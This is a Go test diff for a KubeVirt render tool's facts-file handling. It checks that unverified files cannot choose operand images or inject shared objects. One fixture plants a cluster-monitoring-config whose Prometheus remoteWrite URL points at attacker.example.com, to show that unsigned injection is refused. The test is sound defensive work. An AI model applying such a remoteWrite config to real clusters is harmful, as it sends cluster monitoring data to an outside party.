@@ -403,3 +403,75 @@ func TestFactsFileAuthor(t *testing.T) {
 		})
 	}
 }
+
+// An unverified facts file does not author what is applied in two more
+// ways: a shared object's live content, which the render merges into and
+// copies out, is refused; operand images come from this environment, not
+// from the file.
+func TestUnverifiedFactsAuthorNothing(t *testing.T) {
+	dir := t.TempDir()
+	key := write(t, dir, "key", testKey)
+	hco := write(t, dir, "hco.yaml", strings.Replace(hcoYAML, "  annotations:\n", "  annotations:\n    platform.kubevirt.io/enable-ksm-zero-only: \"true\"\n", 1))
+	objs := write(t, dir, "objs.yaml", clusterObjects)
+	t.Setenv("RELATED_IMAGE_KUBEVIRT_METRICS_EXPORTER", "quay.io/file-author/exporter:chosen")
+	facts, stderr, code := renderOut("--hco-file", hco, "--objects-file", objs, "-o", "facts")
+	if code != ExitOK {
+		t.Fatalf("facts: exit %d %s", code, stderr)
+	}
+	// The file carries the image of the environment that wrote it.
+	if !strings.Contains(facts, "file-author/exporter:chosen") {
+		t.Fatalf("the facts file holds no operand image:\n%s", facts)
+	}
+	t.Setenv("RELATED_IMAGE_KUBEVIRT_METRICS_EXPORTER", "quay.io/pipeline/exporter:trusted")
+	plain := write(t, dir, "plain.yaml", facts)
+	var o, e bytes.Buffer
+	if code := Render([]string{"--facts-file", plain, "-o", "status"}, &o, &e); code != ExitOK || !strings.Contains(e.String(), "operand images are taken from this environment") {
+		t.Fatalf("unverified images: exit %d %s", code, e.String())
+	}
+
+	// The admin's cluster-monitoring-config, live: its content would be copied out.
+	list := &unstructured.UnstructuredList{}
+	if err := yaml.Unmarshal([]byte(facts), &list.Object); err != nil {
+		t.Fatal(err)
+	}
+	items, _, _ := unstructured.NestedSlice(list.Object, "items")
+	items = append(items, map[string]any{"apiVersion": "v1", "kind": "ConfigMap",
+		"metadata": map[string]any{"namespace": "openshift-monitoring", "name": "cluster-monitoring-config"},
+		"data":     map[string]any{"config.yaml": "prometheusK8s:\n  remoteWrite:\n  - url: https://attacker.example.com/\n"}})
+	if err := unstructured.SetNestedSlice(list.Object, items, "items"); err != nil {
+		t.Fatal(err)
+	}
+	withShared, err := yaml.Marshal(list.Object)
+	if err != nil {
+		t.Fatal(err)
+	}
+	unsigned := write(t, dir, "shared.yaml", string(withShared))
+	out, stderr, code := renderOut("--facts-file", unsigned, "-o", "yaml")
+	if code != ExitError || out != "" || !strings.Contains(stderr, "openshift-monitoring/cluster-monitoring-config") || !strings.Contains(stderr, "--facts-key") {
+		t.Fatalf("a live shared object from an unverified file: exit %d, %d bytes out\n%s", code, len(out), stderr)
+	}
+	// Signed by the pipeline's key, the same file renders, and merges.
+	signedList := &unstructured.UnstructuredList{}
+	if err := signedList.UnmarshalJSON(mustJSON(t, list.Object)); err != nil {
+		t.Fatal(err)
+	}
+	k, _ := os.ReadFile(key)
+	if err := factsfile.Sign(signedList, []byte(strings.TrimSpace(string(k)))); err != nil {
+		t.Fatal(err)
+	}
+	signedYAML, _ := yaml.Marshal(signedList.UnstructuredContent())
+	signed := write(t, dir, "signed.yaml", string(signedYAML))
+	out, stderr, code = renderOut("--facts-file", signed, "--facts-key", key, "-o", "yaml")
+	if code != ExitOK || !strings.Contains(out, "attacker.example.com") {
+		t.Fatalf("signed: exit %d\n%s", code, stderr)
+	}
+}
+
+func mustJSON(t *testing.T, v any) []byte {
+	t.Helper()
+	b, err := json.Marshal(v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
